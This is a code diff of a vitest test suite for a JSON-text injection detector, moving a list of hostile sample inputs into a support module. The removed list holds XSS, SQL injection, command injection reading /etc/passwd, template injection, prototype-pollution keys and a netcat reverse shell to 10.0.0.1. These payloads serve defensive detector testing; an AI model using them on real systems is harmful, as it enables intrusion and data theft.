@@ -6,26 +6,7 @@ import { describe, expect, it } from 'vitest'
 import { createDetector, detect } from '../../src/detect/index.js'
 import { cleanJsonText } from '../../src/detect/json-text.js'
 import { BENIGN } from './helpers.js'
-import { generate, rng, sound } from './json-text-support.js'
-
-const SOUND_HOSTILE = [
-  '<script>alert(1)</script>',
-  '<svg onload=alert(1)>',
-  'javascript:alert(1)',
-  "1' OR '1'='1",
-  '1 OR 1=1',
-  '1 union select password from users',
-  "admin'--",
-  '; cat /etc/passwd',
-  '$(whoami)',
-  '`id`',
-  '| nc -e /bin/sh 10.0.0.1 4444',
-  'sleep 5',
-  '1; waitfor delay 0:0:5',
-  '{{constructor.constructor("alert(1)")()}}',
-  '__proto__',
-  'constructor.prototype.polluted',
-]
+import { generate, rng, SOUND_HOSTILE, sound } from './json-text-support.js'
 
 describe('cleanJsonText: sound — clean means detect() finds nothing', () => {
   it('on benign and hostile lines as values, keys, array items and nested', () => {
